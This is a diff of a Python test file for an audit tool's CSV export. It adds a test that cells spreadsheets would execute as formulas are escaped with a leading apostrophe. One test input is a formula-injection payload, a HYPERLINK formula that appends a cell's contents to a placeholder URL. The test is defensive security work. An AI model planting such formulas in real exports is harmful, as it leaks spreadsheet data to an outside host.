@@ -15,7 +15,7 @@ from click.testing import CliRunner
 
 from auditor.cli import cli
 from auditor.policy import load_policy
-from auditor.results import AuditResult, claim_rows
+from auditor.results import AuditResult, claim_rows, from_formula_safe, write_rows
 from auditor.run import audit
 from auditor.store import export_run
 from tests.conftest import FIXTURES
@@ -86,7 +86,7 @@ def _from_csv(cell: str, name: str, kind: str) -> Any:
         return int(cell)
     if kind == "float":
         return float(cell)
-    return cell
+    return from_formula_safe(cell)
 
 
 def test_csv_export_reads_back_equal(stored: tuple[str, AuditResult], tmp_path: Path) -> None:
@@ -254,3 +254,18 @@ def test_csv_shows_control_characters_even_in_a_file(tmp_path: Path) -> None:
     assert rows and all(VISIBLE in row["answer"] and VISIBLE in row["question"] for row in rows)
     assert [json.loads(row["quotes"]) for row in rows] == [row["quotes"] for row in expected(result)]
     assert EVIL in result.answers[0].text  # the stored text itself is unchanged
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['=HYPERLINK("http://x.test/?"&A1,"Refund")', "+1 555 0100", "-2+3", "@SUM(A1:A9)", "\tlead", "'quoted"],
+)
+def test_a_csv_cell_a_spreadsheet_would_run_opens_as_text(stored: tuple[str, AuditResult], text: str) -> None:
+    # Answers and tool results are written by a model or a stranger: a spreadsheet must not run them.
+    _, result = stored
+    row = next(iter(claim_rows(result))).model_copy(update={"claim": text, "question": text})
+    stream = io.StringIO()
+    write_rows([row], stream, "csv")
+    cells = next(csv.DictReader(io.StringIO(stream.getvalue())))
+    assert cells["claim"] == cells["question"] == "'" + text
+    assert from_formula_safe(cells["claim"]) == text
